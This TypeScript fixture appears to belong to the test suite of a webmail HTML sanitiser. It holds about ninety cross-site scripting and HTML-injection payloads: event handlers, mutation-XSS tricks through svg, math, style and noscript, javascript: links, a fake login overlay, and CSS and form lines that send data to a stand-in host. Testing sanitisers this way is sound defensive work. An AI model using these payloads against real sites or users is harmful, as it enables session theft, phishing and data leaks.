/** HTML that has broken webmails: one entry an idea. Opened by the sanitiser's test and, in a real browser, by reading.browser.test.ts. */
export const ATTACKS: Readonly<Record<string, string>> = {
  "plain script": "<script>window.top.pwned=1;fetch('http://leak.invalid/')</script><p>after</p>",
  "script in odd case with a slash": "<ScRiPt/x>alert(1)</sCrIpT >",
  "script that is never closed": "<p>before</p><script>alert(1)",
  "nested script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "image handler": '<img src=x onerror="alert(1)">',
  "image handler with slashes": "<img/src=`x`/onerror=alert(1)>",
  "image handler over lines": "<img src=x\nonerror\n=\nalert(1)>",
  "attribute broken open": '<img alt="a" title="\'><img src=x onerror=alert(1)>">',
  "svg handler": "<svg onload=alert(1)>",
  "svg script": "<svg><script>alert(1)</script></svg>",
  "svg script by entities": "<svg><script>&#97;lert(1)</script></svg>",
  "svg animation of a link":
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
  "svg use":
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>',
  "svg foreignObject": "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
  "svg style mutation": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  "math link": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  "math mglyph mutation":
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "math annotation mutation":
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  "form in table mutation": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "title mutation": '<title><a href="</title><img src=x onerror=alert(1)>">',
  "textarea mutation": '<textarea><a href="</textarea><img src=x onerror=alert(1)>">',
  "xmp mutation": '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  "noembed and noframes":
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>"><noframes><p title="</noframes><img src=x onerror=alert(1)>">',
  plaintext: "<plaintext><img src=x onerror=alert(1)>",
  template: "<template><img src=x onerror=alert(1)></template>",
  "select mutation": "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
  "comment that ends early": "<!--><img src=x onerror=alert(1)>-->",
  "comment with a bang": "<!-- --!><img src=x onerror=alert(1)> -->",
  "conditional comment": "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
  cdata: "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "processing instruction": "<?xml version='1.0'?><?php <img src=x onerror=alert(1)> ?>",
  "javascript link": '<a href="javascript:alert(1)">x</a>',
  "javascript link with a tab": '<a href="java&#9;script:alert(1)">x</a>',
  "javascript link with controls": '<a href="&#1;&#14; javascript:alert(1)">x</a>',
  "javascript link in capitals by entities": '<a href="&#74;&#x41;VASCRIPT&colon;alert(1)">x</a>',
  "javascript link with a fake web address": '<a href="javascript://https://example.org/%0aalert(1)">x</a>',
  "data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  "vbscript link": '<a href="vbscript:msgbox(1)">x</a>',
  "file and other schemes": '<a href="file:///etc/passwd">x</a><a href="ms-word:ofe|u|http://leak.invalid">y</a>',
  "relative link to the webmail": '<a href="/mail/f/1/act?action=delete">x</a><a href="//leak.invalid/">y</a>',
  "javascript picture":
    '<img src="javascript:alert(1)"><img dynsrc="javascript:alert(1)"><img lowsrc="javascript:alert(1)">',
  "svg picture as data": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  "picture set":
    '<img srcset="http://leak.invalid/a 1x, http://leak.invalid/b 2x"><picture><source srcset="http://leak.invalid/c"><img src=x></picture>',
  iframe: '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  frameset: '<frameset><frame src="javascript:alert(1)"></frameset>',
  "object and embed":
    '<object data="javascript:alert(1)"><param name=x></object><embed src="javascript:alert(1)"><applet code=x></applet>',
  "audio and video":
    '<video poster="http://leak.invalid/p"><source onerror="alert(1)"></video><audio src="http://leak.invalid/a" onerror=alert(1) autoplay>',
  "meta refresh":
    '<meta http-equiv="refresh" content="0;url=http://leak.invalid/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  "meta charset and policy":
    '<meta charset="utf-7"><meta http-equiv="Content-Security-Policy" content="script-src *">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  base: '<base href="http://leak.invalid/" target="_top"><a href="x">x</a>',
  "link elements":
    '<link rel="stylesheet" href="http://leak.invalid/x.css"><link rel="prefetch" href="http://leak.invalid/"><link rel="dns-prefetch" href="//leak.invalid">',
  form: '<form action="http://leak.invalid/" method="post"><input name="password" autofocus onfocus="alert(1)"><button formaction="javascript:alert(1)">Log in</button></form>',
  isindex: '<isindex type=image src=1 onerror=alert(1) action="javascript:alert(1)">',
  "details handler": "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "marquee handler": "<marquee onstart=alert(1)>x</marquee>",
  "body handler": '<body onload="alert(1)" background="http://leak.invalid/b.png">x</body>',
  "table background":
    '<table background="http://leak.invalid/b.png"><td background="javascript:alert(1)">x</td></table>',
  "style expression": '<p style="width: expression(alert(1)); xss:expr/**/ession(alert(1))">x</p>',
  "style url": '<p style="background-image: url(javascript:alert(1)); background: url(http://leak.invalid/x)">x</p>',
  "style url by escapes":
    '<p style="background: \\75 rl(http://leak.invalid/x); background: u\\rl(http://leak.invalid/y)">x</p>',
  "style url split by a comment":
    '<p style="background: u/**/rl(http://leak.invalid/x); background: url(/**/http://leak.invalid/y)">x</p>',
  "style image-set":
    "<p style=\"background-image: image-set('http://leak.invalid/x' 1x); background: -webkit-image-set(url(http://leak.invalid) 1x)\">x</p>",
  "style with content and counters":
    '<p style="content: url(http://leak.invalid/x); list-style-image: url(http://leak.invalid/y); cursor: url(http://leak.invalid/z), auto">x</p>',
  "style binding": '<p style="-moz-binding: url(http://leak.invalid/x#y); behavior: url(http://leak.invalid/z)">x</p>',
  "style over the page":
    '<div style="position: fixed; inset: 0; z-index: 99999; background: white">Your session has ended. Password:</div>',
  "style over the page by escapes": '<div style="p\\6fsition: f\\69xed; top: 0">x</div>',
  "style custom properties": '<p style="--x: url(http://leak.invalid); background: var(--x)">x</p>',
  "style quote that does not end": '<p style="font-family: \'x; background: url(http://leak.invalid/)">x</p>',
  "style attribute broken open": "<p style=\"color: red\" onclick='alert(1)' style='x'>x</p>",
  "style sheet import": "<style>@import 'http://leak.invalid/x.css'; @import url(//leak.invalid);</style>",
  "style sheet font":
    "<style>@font-face { font-family: x; src: url(http://leak.invalid/f) } p { font-family: x }</style>",
  "style sheet that reads attributes":
    '<style>input[value^="a"] { background: url(http://leak.invalid/a) } a[href*=token] { color: red }</style>',
  "style sheet with the end tag inside": "<style>a{color:red}</sty</style>le><img src=x onerror=alert(1)>",
  "style sheet with html in a string": '<style>a::before{content:"</style><img src=x onerror=alert(1)>"}</style>',
  "style sheet that is never closed": "<p>x</p><style>a{color:red}<img src=x onerror=alert(1)>",
  "style sheet in comments":
    "<style><!-- a{position:fixed} --></style><style>/*</style><img src=x onerror=alert(1)>*/</style>",
  "style sheet with a hostile selector":
    "<style>a:is(b)~*,*{background:url(http://leak.invalid)} a{}}</style><script>alert(1)</script>{</style>",
  "style sheet keyframes":
    "<style>@keyframes x { from { background: url(http://leak.invalid) } } p { animation: x 1s }</style>",
  "clobbering names":
    '<a id="document" name="cookie" href="https://example.org/">x</a><form id="test"><input name="attributes"></form>',
  "null octets": "<scr\0ipt>alert(1)</scr\0ipt><img src=x on\0error=alert(1)><a href='java\0script:alert(1)'>x</a>",
  "overlong and broken utf-8":
    "\u00c0\u00bcscript\u00c0\u00bealert(1)\u00c0\u00bc/script\u00c0\u00be\ufffd<img src=x onerror=alert(1)\ufffd>",
  "entities without semicolons":
    "<img src=x onerror&equals;&#97lert(1)><a href=&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)>x</a>",
  "tag that never ends": "<p>x</p><img src=x onerror=alert(1) ",
  "end tag with attributes": "</p onclick=alert(1) style=x:expression(alert(1))>",
  "namespaced elements":
    '<html xmlns:xss><xss:script>alert(1)</xss:script><?import namespace="xss" implementation="http://leak.invalid/x.htc"><v:vmlframe xmlns:v="urn:schemas-microsoft-com:vml" src="http://leak.invalid"/>',
  "custom element and is": '<x-y onclick=alert(1)>a</x-y><p is="x-y" contenteditable onbeforeinput=alert(1)>b</p>',
  "popover and dialog":
    "<dialog open onclose=alert(1)>x</dialog><div popover id=p onbeforetoggle=alert(1)>y</div><button popovertarget=p>z</button>",
  "access key and tab order":
    '<a accesskey="x" tabindex="1" autofocus onfocus=alert(1) href="https://example.org">x</a>',
  "ping and download":
    '<a href="https://example.org/" ping="http://leak.invalid/" download="x.exe" target="_top" rel="opener">x</a>',
  "right-to-left override": '<a href="https://example.org/">\u202egro.knab//:sptth</a>',
};
